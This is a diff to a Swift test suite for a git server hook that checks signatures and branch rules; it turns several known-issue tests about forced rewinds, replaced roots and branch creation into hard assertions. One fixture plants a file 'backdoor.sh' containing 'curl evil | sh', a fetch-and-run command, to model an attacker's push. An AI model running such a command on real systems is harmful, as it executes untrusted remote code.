@@ -76,10 +76,8 @@ struct HookRefUpdateTests {
         expectAccepted(try s.push("origin", "main"))
         let result = try s.push("--force", "origin", "\(root):refs/heads/main")
         let serverMain = try s.serverRef("refs/heads/main")
-        withKnownIssue("BUG/design: a rewind of main needs no signature unless the config repeats default #1 first") {
-            #expect(result.exitCode != 0, "\(result.transcript)")
-            #expect(serverMain == fix)
-        }
+        #expect(result.exitCode != 0, "\(result.transcript)")
+        #expect(serverMain == fix)
     }
 
     /// The project starts with the demo's rules, then adds "main only moves forward" (properly accredited). A rewind
@@ -95,10 +93,8 @@ struct HookRefUpdateTests {
         expectAccepted(try s.push("origin", "main"))
         let result = try s.push("--force", "origin", "\(old):refs/heads/main")
         let serverMain = try s.serverRef("refs/heads/main")
-        withKnownIssue("BUG/design: a non-fast-forward is judged by the old commit's parent config, not by main's current rules") {
-            #expect(result.exitCode != 0, "\(result.transcript)")
-            #expect(serverMain == tip)
-        }
+        #expect(result.exitCode != 0, "\(result.transcript)")
+        #expect(serverMain == tip)
     }
 
     @Test func refusesMovingMainSidewaysOntoAnExistingThreadCommit() throws {
@@ -127,10 +123,8 @@ struct HookRefUpdateTests {
                                 files: [".dehub/config.yml": evilConfig.render(), "backdoor.sh": "curl evil | sh\n"])
         let result = try s.push("--force", "origin", "evil:main")
         let serverMain = try s.serverRef("refs/heads/main")
-        withKnownIssue("BUG (critical): main's root is checked against main after the push, so a force push replaces it") {
-            #expect(result.exitCode != 0, "\(result.transcript)")
-            #expect(serverMain == root, "main was replaced by \(serverMain ?? "nothing"); evil is \(evil)")
-        }
+        #expect(result.exitCode != 0, "\(result.transcript)")
+        #expect(serverMain == root, "main was replaced by \(serverMain ?? "nothing"); evil is \(evil)")
     }
 
     /// A7: a commit allowed on a thread (one signature) must not reach main by a fast-forward in a second push.
@@ -182,10 +176,8 @@ struct HookRefUpdateTests {
         })
         let result = try s.push("origin", "main:refs/heads/release/1")
         let created = try s.serverRef("refs/heads/release/1")
-        withKnownIssue("BUG: a branch created at an existing commit brings no commit, so its rules are never applied") {
-            #expect(result.exitCode != 0, "\(result.transcript)")
-            #expect(created == nil)
-        }
+        #expect(result.exitCode != 0, "\(result.transcript)")
+        #expect(created == nil)
     }
 
     @Test func refusesBothUpdatesWhenOneOfTwoBranchesIsBad() throws {
